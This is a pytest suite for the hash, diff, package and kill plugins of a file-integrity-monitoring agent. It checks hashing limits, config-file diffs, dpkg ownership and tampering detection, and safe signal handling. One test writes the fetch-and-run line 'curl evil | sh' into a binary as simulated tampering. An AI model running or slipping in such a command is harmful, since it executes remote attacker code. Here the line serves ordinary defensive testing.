"""The bundled plugins on synthetic events (the kernel tests run them in the real agent)."""

from __future__ import annotations

import hashlib
import importlib
import os
import shutil
import subprocess
from dataclasses import replace

import pytest

from otel_fim.event import DestinationDetails, EventType, FileInfo
from otel_fim.pipeline import Emitter, Pipeline
from otel_fim.plugin.manager import load_plugins
from otel_fim.rules.errors import PolicyError
from otel_fim.rules.match import Match
from otel_fim.rules.ruleset import RuleSet
from tests.factories import agent_event
from tests.support.plugins import Recorder, agent_config, with_plugins

MATCH = Match("r", "high")


def bundled_module(name: str):
    return importlib.import_module(f"otel_fim_plugins.{name}")


def started(tmp_path, *names, **config):
    plugins = load_plugins(agent_config(tmp_path, enable=list(names), **config), entry_points=False)
    assert plugins.loaded() == sorted(names), {n: i.status for n, i in plugins.infos.items()}
    return plugins


# -- hash ----------------------------------------------------------------------------------------


def test_hash_equals_sha256sum_and_respects_the_size_limit(tmp_path):
    started(tmp_path, "hash", config={"hash": {"max_bytes": 1000}})
    h = bundled_module("hash")
    f = tmp_path / "f"
    f.write_bytes(os.urandom(999))
    got = h.otel_fim_enrich(agent_event(str(f), flags=0), [MATCH])
    expected = subprocess.run(["sha256sum", str(f)], capture_output=True, text=True).stdout.split()[0]
    assert got == {"sha256": expected, "size": 999}
    f.write_bytes(os.urandom(1001))
    assert h.otel_fim_enrich(agent_event(str(f), flags=0), [MATCH]) == {"skipped": "too_large", "size": 1001}
    assert h.otel_fim_enrich(agent_event(str(tmp_path / "gone"), flags=0), [MATCH]) == {"skipped": "missing"}
    assert h.otel_fim_enrich(agent_event(str(tmp_path), flags=0), [MATCH]) == {"skipped": "not_regular"}
    assert h.otel_fim_enrich(agent_event(str(f), kind=EventType.UNLINK), [MATCH]) is None


def test_hash_as_an_action_only_for_the_rules_that_ask(tmp_path):
    plugins = started(tmp_path, "hash", config={"hash": {"all_matches": False}})
    h = bundled_module("hash")
    f = tmp_path / "f"
    f.write_text("x")
    assert h.otel_fim_enrich(agent_event(str(f), flags=0), [MATCH]) is None
    asking = Match("r", "high", actions=({"hash": {"max_bytes": 10}},))
    assert (
        h.otel_fim_enrich(agent_event(str(f), flags=0), [asking])["sha256"]
        == hashlib.sha256(b"x").hexdigest()
    )
    with pytest.raises(PolicyError, match="parameter 'max_bytes': must be > 0"):
        RuleSet.from_text(
            'rules: [{id: a, expression: open.file.path == "/x", actions: [{hash: {max_bytes: 0}}]}]',
            known_actions=plugins.known_actions(), fields=plugins.fields,
        )


def test_hash_of_a_rename_is_the_destination(tmp_path):
    started(tmp_path, "hash")
    h = bundled_module("hash")
    dest = tmp_path / "new"
    dest.write_text("moved")
    event = agent_event(str(tmp_path / "old"), kind=EventType.RENAME)
    event.details = DestinationDetails(FileInfo(str(dest)))
    assert h.otel_fim_enrich(event, [MATCH])["sha256"] == hashlib.sha256(b"moved").hexdigest()


# -- diff ----------------------------------------------------------------------------------------


def test_diff_baselines_what_rules_watch_and_diffs_the_next_write(tmp_path):
    watched = tmp_path / "etc"
    (watched / "sub").mkdir(parents=True)
    (watched / "app.conf").write_text("a\nb\nc\n")
    (watched / "sub" / "deep.conf").write_text("deep\n")
    (watched / "blob").write_bytes(b"\0\1\2")
    (watched / "server.key").write_text("-----BEGIN PRIVATE KEY-----\n")
    ruleset = RuleSet.from_text(f'rules: [{{id: a, expression: fim.write.file.path =~ "{watched}/**"}}]')
    plugins = started(tmp_path, "diff")
    plugins.rules_loaded(ruleset)
    d = bundled_module("diff")
    copies = tmp_path / "state" / "plugins" / "diff" / "baselines"
    assert sorted(p.read_bytes() for p in copies.iterdir()) == [b"a\nb\nc\n", b"deep\n"]

    (watched / "app.conf").write_text("a\nB\nc\nd\n")
    got = d.otel_fim_enrich(agent_event(str(watched / "app.conf")), [MATCH])
    assert got["status"] == "modified"
    assert (got["added"], got["removed"]) == (2, 1)
    assert got["unified"].splitlines()[2:] == ["@@ -1,3 +1,4 @@", " a", "-b", "+B", " c", "+d"]
    # the new content is the next baseline
    again = d.otel_fim_enrich(agent_event(str(watched / "app.conf")), [MATCH])
    assert again["status"] == "unchanged" and "reverted" in again["note"]

    assert d.otel_fim_enrich(agent_event(str(watched / "server.key")), [MATCH]) == {"status": "excluded"}
    assert d.otel_fim_enrich(agent_event(str(watched / "blob")), [MATCH]) == {"status": "binary"}
    (watched / "new.conf").write_text("hello\n")
    created = d.otel_fim_enrich(agent_event(str(watched / "new.conf")), [MATCH])
    assert created["status"] == "created" and "+hello" in created["unified"]
    assert d.otel_fim_enrich(agent_event(str(watched / "app.conf"), flags=0), [MATCH]) is None  # read-only

    os.unlink(watched / "sub" / "deep.conf")
    deleted = d.otel_fim_enrich(
        agent_event(str(watched / "sub" / "deep.conf"), kind=EventType.UNLINK), [MATCH]
    )
    assert deleted["status"] == "deleted" and "-deep" in deleted["unified"]


def test_diff_of_a_rename_over_a_watched_file_uses_the_old_content(tmp_path):
    conf = tmp_path / "app.conf"
    conf.write_text("port 80\n")
    ruleset = RuleSet.from_text(f'rules: [{{id: a, expression: fim.write.file.path == "{conf}"}}]')
    plugins = started(tmp_path, "diff")
    plugins.rules_loaded(ruleset)
    tmp = tmp_path / "sedXYZ"
    tmp.write_text("port 8080\n")
    os.rename(tmp, conf)
    event = agent_event(str(tmp), kind=EventType.RENAME)
    event.details = DestinationDetails(FileInfo(str(conf)))
    got = bundled_module("diff").otel_fim_enrich(event, [MATCH])
    assert "-port 80\n+port 8080\n" in got["unified"]


def test_diff_is_cut_at_max_diff_bytes(tmp_path):
    conf = tmp_path / "big.conf"
    conf.write_text("")
    ruleset = RuleSet.from_text(f'rules: [{{id: a, expression: fim.write.file.path == "{conf}"}}]')
    plugins = started(tmp_path, "diff", config={"diff": {"max_diff_bytes": 100}})
    plugins.rules_loaded(ruleset)
    conf.write_text("".join(f"line {i}\n" for i in range(100)))
    got = bundled_module("diff").otel_fim_enrich(agent_event(str(conf)), [MATCH])
    assert got["truncated"] is True and len(got["unified"].encode()) <= 100
    assert got["added"] == 100


def test_unknown_plugin_settings_unload_the_plugin(tmp_path):
    plugins = load_plugins(agent_config(tmp_path, config={"diff": {"max_byte": 1}}), entry_points=False)
    assert plugins.infos["diff"].status.startswith("failed: startup: unknown settings: max_byte")


# -- package -------------------------------------------------------------------------------------


def fake_dpkg(tmp_path):
    admin = tmp_path / "dpkg"
    (admin / "info").mkdir(parents=True)
    (admin / "info" / "tool.list").write_text("/.\n/usr\n/usr/bin\n/usr/bin/tool\n/etc/tool.conf\n")
    shipped = b"#!/bin/sh\necho tool\n"
    (admin / "info" / "tool.md5sums").write_text(f"{hashlib.md5(shipped).hexdigest()}  usr/bin/tool\n")
    (admin / "status").write_text(
        "Package: tool\nStatus: install ok installed\nConffiles:\n /etc/tool.conf 0123456789abcdef\n"
        "Description: x\n"
    )
    return admin, shipped


def test_package_owner_conffile_digest_and_manager(tmp_path):
    admin, shipped = fake_dpkg(tmp_path)
    plugins = started(tmp_path, "package", config={"package": {"admindir": str(admin)}})
    p = bundled_module("package")
    p._index.ready.wait(5)
    # the event paths are rewritten onto files of ours; the index is keyed by the packaged paths
    tool = tmp_path / "tool"
    tool.write_bytes(shipped)
    event = agent_event("/usr/bin/tool")
    got = p.otel_fim_enrich(event, [MATCH])
    assert got["name"] == "tool" and got["conffile"] is False and got["by_package_manager"] is False
    assert "digest_match" not in got  # /usr/bin/tool does not exist here: unknown, not false
    assert p.otel_fim_enrich(agent_event("/bin/tool"), [MATCH])["name"] == "tool"  # merged /usr
    assert p.otel_fim_enrich(agent_event("/etc/tool.conf"), [MATCH])["conffile"] is True
    assert p.otel_fim_enrich(agent_event("/usr/bin/other"), [MATCH]) is None
    dpkg_event = agent_event("/usr/bin/tool")
    dpkg_event.process = replace(dpkg_event.process, comm="dpkg")
    assert p.otel_fim_enrich(dpkg_event, [MATCH])["by_package_manager"] is True

    rule = 'rules: [{id: a, expression: open.retval >= 0 && package.name == "tool" && !package.by_manager}]'
    with pytest.raises(PolicyError, match="unknown field 'package.name'"):
        RuleSet.from_text(rule)  # plugin fields live in that agent's registry only
    ruleset = RuleSet.from_text(rule, fields=plugins.fields)
    assert [m.rule_id for m in ruleset.evaluate(agent_event("/usr/bin/tool"))] == ["a"]
    assert not ruleset.evaluate(dpkg_event)
    assert ruleset.approvers(EventType.OPEN).accept_all  # plugin fields are unknown to the kernel
    assert plugins.infos["package"].fields == ["package.name", "package.by_manager"]


def test_package_digest_match_tells_tampering_apart(tmp_path):
    admin, shipped = fake_dpkg(tmp_path)
    tool = tmp_path / "usr" / "bin" / "tool"
    tool.parent.mkdir(parents=True)
    tool.write_bytes(shipped)
    (admin / "info" / "tool.list").write_text(f"{tool}\n")
    (admin / "info" / "tool.md5sums").write_text(f"{hashlib.md5(shipped).hexdigest()}  {str(tool)[1:]}\n")
    started(tmp_path, "package", config={"package": {"admindir": str(admin)}})
    p = bundled_module("package")
    p._index.ready.wait(5)
    assert p.otel_fim_enrich(agent_event(str(tool)), [MATCH])["digest_match"] is True
    tool.write_bytes(shipped + b"curl evil | sh\n")
    assert p.otel_fim_enrich(agent_event(str(tool)), [MATCH])["digest_match"] is False


@pytest.mark.skipif(shutil.which("dpkg") is None, reason="not a Debian system")
def test_package_agrees_with_dpkg_s(tmp_path):
    started(tmp_path, "package")
    p = bundled_module("package")
    assert p._index.ready.wait(30)
    for path in ("/usr/bin/ls", "/bin/ls", "/etc/debian_version"):
        if not os.path.exists(path):
            continue
        dpkg = subprocess.run(["dpkg", "-S", path], capture_output=True, text=True)
        owner = dpkg.stdout.split(":")[0] if dpkg.returncode == 0 else None
        got = p.otel_fim_enrich(agent_event(path, flags=0), [MATCH])
        if owner is not None:
            assert got is not None and got["name"] == owner, (path, dpkg.stdout)


# -- kill ----------------------------------------------------------------------------------------


def test_kill_signal_parameter_is_checked_at_load_time(tmp_path):
    plugins = started(tmp_path, "kill")
    rule = 'rules: [{{id: a, expression: open.file.path == "/x", actions: [{action}]}}]'
    for ok in ("kill", "{kill: {signal: SIGTERM}}", "{kill: {signal: term}}", "{kill: {signal: 9}}"):
        RuleSet.from_text(rule.format(action=ok), known_actions=plugins.known_actions())
    with pytest.raises(PolicyError, match="parameter 'signal': 'SIGNOPE' is not a signal"):
        RuleSet.from_text(
            rule.format(action="{kill: {signal: SIGNOPE}}"), known_actions=plugins.known_actions()
        )


def test_kill_never_signals_the_agent_or_init(tmp_path, caplog):
    plugins = started(tmp_path, "kill")
    ruleset = RuleSet.from_text(
        'rules: [{id: a, expression: open.file.path == "/x", actions: [kill]}]',
        known_actions=plugins.known_actions(), fields=plugins.fields,
    )
    out = Recorder()
    pipeline = Pipeline(Emitter([out]), ruleset)
    pipeline = with_plugins(plugins, pipeline)
    pipeline.handle(agent_event("/x", pid=os.getpid()))
    pipeline.handle(agent_event("/x", pid=1))
    pipeline.close()
    assert len(out.records) == 2
    assert caplog.text.count("not signalling pid") == 2
